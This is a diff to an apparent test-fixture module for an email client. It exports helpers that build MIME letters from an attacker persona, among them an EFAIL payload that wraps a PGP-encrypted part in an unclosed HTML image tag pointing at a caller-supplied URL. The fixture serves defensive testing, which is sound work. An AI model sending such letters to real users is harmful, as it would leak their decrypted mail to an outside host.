@@ -118,15 +118,15 @@ const mark = () => `LETTER-${number}-IS-SHOWN`;
 const shown = () => `<p class="hostile-mark">${mark()}</p>`;
 const from = "Mallory <mallory@sender.example>";
 
-function head(subject, more = {}) {
+export function head(subject, more = {}) {
 	const fields = { From: from, To: "alice@letterlock.test", Subject: subject, Date: "Mon, 02 Feb 2026 10:00:00 +0000", "Message-ID": `<${b64(subject).replace(/\W/g, "").slice(0, 60)}@sender.example>`, "MIME-Version": "1.0", ...more };
 	return Object.entries(fields).map(([k, v]) => `${k}: ${v}\r\n`).join("");
 }
 
 const body64 = (content) => `Content-Transfer-Encoding: base64\r\n\r\n${Buffer.from(content).toString("base64").replace(/.{76}/g, "$&\r\n")}\r\n`;
-const part = (type, content, more = "") => `Content-Type: ${type}\r\n${more}${body64(content)}`;
+export const part = (type, content, more = "") => `Content-Type: ${type}\r\n${more}${body64(content)}`;
 const page = (inner) => part("text/html; charset=utf-8", `${shown()}${inner}`);
-const multi = (kind, parts, b = "=_b") => `Content-Type: multipart/${kind}; boundary="${b}"\r\n\r\n${parts.map((p) => `--${b}\r\n${p}`).join("\r\n")}\r\n--${b}--\r\n`;
+export const multi = (kind, parts, b = "=_b") => `Content-Type: multipart/${kind}; boundary="${b}"\r\n\r\n${parts.map((p) => `--${b}\r\n${p}`).join("\r\n")}\r\n--${b}--\r\n`;
 const file = (type, name, content) => part(type, content, `Content-Disposition: attachment; filename="${name}"\r\n`);
 const nested = (n, inner) => (n === 0 ? inner : `Content-Type: message/rfc822\r\n\r\nFrom: a@b.example\r\nSubject: ${n}\r\nMIME-Version: 1.0\r\n${nested(n - 1, inner)}`);
 
@@ -168,7 +168,7 @@ export const mime = {
 // --- EFAIL: pieces of ciphertext in letters that would carry away what is in them ---
 
 const armor = `-----BEGIN PGP MESSAGE-----\r\n\r\nwV4DR2b2udXyHrYSAQdAr8bEGWdSvW3LhRk0m8MzJ7W2s0kSLj3Y2i3f9rBzXjAw\r\n=abcd\r\n-----END PGP MESSAGE-----`;
-const pgpMime = (data = armor) => `Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="=_e"\r\n\r\n--=_e\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--=_e\r\nContent-Type: application/octet-stream\r\n\r\n${data}\r\n--=_e--\r\n`;
+export const pgpMime = (data = armor) => `Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="=_e"\r\n\r\n--=_e\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--=_e\r\nContent-Type: application/octet-stream\r\n\r\n${data}\r\n--=_e--\r\n`;
 
 export const efail = {
 	"EFAIL: an open image around an encrypted part": (u) => multi("mixed", [page(`<img src="${u}/?`), pgpMime(), part("text/html", '">')]),
